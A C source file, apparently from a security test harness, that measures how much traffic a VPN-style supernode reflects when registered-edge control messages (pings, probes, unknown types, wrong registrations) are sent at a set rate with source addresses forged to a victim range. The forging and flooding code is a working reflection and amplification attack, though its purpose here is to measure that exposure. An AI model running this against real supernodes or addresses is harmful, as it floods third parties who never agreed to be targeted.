/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * What a registered edge gets out of a supernode for what it sends, by kind of message; forged ones
 * come from the victim's address, and what counts is what arrives there.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "client.h"

struct amplifier {
	const struct orders *o;
	struct door door;
	struct client client;
	struct wire wire;
};

static void write_ping(struct amplifier *a, struct writer *w)
{
	control_ping_encode(w, &(struct control_ping){random_u64(&a->o->rnd)});
}

static void write_probe(struct amplifier *a, struct writer *w)
{
	control_probe_encode(w, &(struct control_probe){random_u64(&a->o->rnd)});
}

/* As many as fit one packet. */
static void write_pings(struct amplifier *a, struct writer *w)
{
	while (writer_left(w) >= CONTROL_HEADER_LEN + 8)
		write_ping(a, w);
}

static void write_unknown(struct amplifier *a, struct writer *w)
{
	control_end(w, control_begin(w, CONTROL_TYPES - 1, ++a->client.seq));
}

static void write_unknowns(struct amplifier *a, struct writer *w)
{
	while (writer_left(w) >= CONTROL_HEADER_LEN)
		write_unknown(a, w);
}

/* Every second sequence: each is acknowledged by a range of its own. */
static void write_gaps(struct amplifier *a, struct writer *w)
{
	while (writer_left(w) >= CONTROL_HEADER_LEN) {
		a->client.seq++;
		write_unknown(a, w);
	}
}

static void write_register(struct amplifier *a, struct writer *w)
{
	struct client *c = &a->client;
	struct control_register m = {.incarnation = c->incarnation};

	memcpy(m.tag, c->tag, sizeof(m.tag));
	memcpy(m.static_public, c->member.public, KEY_LEN);
	if (party_register_proof(m.proof, c->member.secret, a->o->key, c->keys->hash, m.tag,
		    m.static_public) != 0)
		give_up("proof");
	control_register_encode(w, ++c->seq, &m);
}

/* The shortest packet there is: a keepalive. */
static void write_nothing(struct amplifier *a, struct writer *w)
{
	(void)a;
	(void)w;
}

/* One with a wrong proof is answered, too. */
static void write_wrong_register(struct amplifier *a, struct writer *w)
{
	struct control_register m = {.incarnation = 1};

	memcpy(m.static_public, a->client.member.public, KEY_LEN);
	control_register_encode(w, ++a->client.seq, &m);
}

static const struct kind {
	const char *name;
	void (*write)(struct amplifier *a, struct writer *w);
} kinds[] = {
	{"nothing", write_nothing},
	{"ping", write_ping},
	{"pings", write_pings},
	{"probe", write_probe},
	{"unknown", write_unknown},
	{"unknowns", write_unknowns},
	{"gaps", write_gaps},
	{"register", write_register},
	{"wrong-register", write_wrong_register},
};

static const struct kind *kind_of(const char *name)
{
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (strcmp(kinds[i].name, name) == 0)
			return &kinds[i];
	fprintf(stderr, "what=\"%s\" is no kind of message\n", name);
	exit(2);
}

static void send_one(struct amplifier *a, const struct kind *kind)
{
	uint8_t buf[CONTROL_MAX_LEN];
	struct writer w;
	size_t len;

	writer_init(&w, buf, sizeof(buf));
	kind->write(a, &w);
	len = client_seal(&a->client, &w, wire_room(&a->wire));
	/* Each with another source: what is probed is an address that was not seen before. */
	wire_send(&a->wire,
		a->o->victim != 0 ? a->o->victim + (uint32_t)a->wire.sent % a->o->addresses
				  : a->door.address,
		a->door.port, len);
}

/*
 * count messages at a rate, none of whose answers is acknowledged, and what they bring in hold
 * seconds more.
 */
void attack_amplify(const struct orders *o)
{
	const struct kind *kind = kind_of(o->what);
	uint8_t tag[COMMUNITY_TAG_LEN];
	struct amplifier a = {.o = o};
	struct pace pace;
	struct tally t;
	unsigned sent = 0;

	random_bytes(&o->rnd, tag, sizeof(tag));
	door_open(&a.door, o, o->from, (uint16_t)o->port);
	client_init(&a.client, o, &a.door, 0, tag);
	if (!client_register(&a.client, o, 10))
		give_up("registration");
	sleep_us(1500000);
	client_take_all(&a.client, o);
	client_ack(&a.client);
	wire_init(&a.wire, &o->to);
	tally_init(&t, ntohl(o->to.sin_addr.s_addr), o->victim != 0 ? o->victim : o->from,
		o->addresses);
	pace_init(&pace, o->rate, (double)o->count / o->rate + o->hold);
	while (!pace_over(&pace)) {
		for (unsigned due = pace_due(&pace); due > 0 && sent < o->count; due--, sent++)
			send_one(&a, kind);
		wire_flush(&a.wire);
		tally_read(&t);
	}
	wire_fini(&a.wire);
	tally_finish(&t);
	print_result(&a.wire, &t);
	client_fini(&a.client);
}
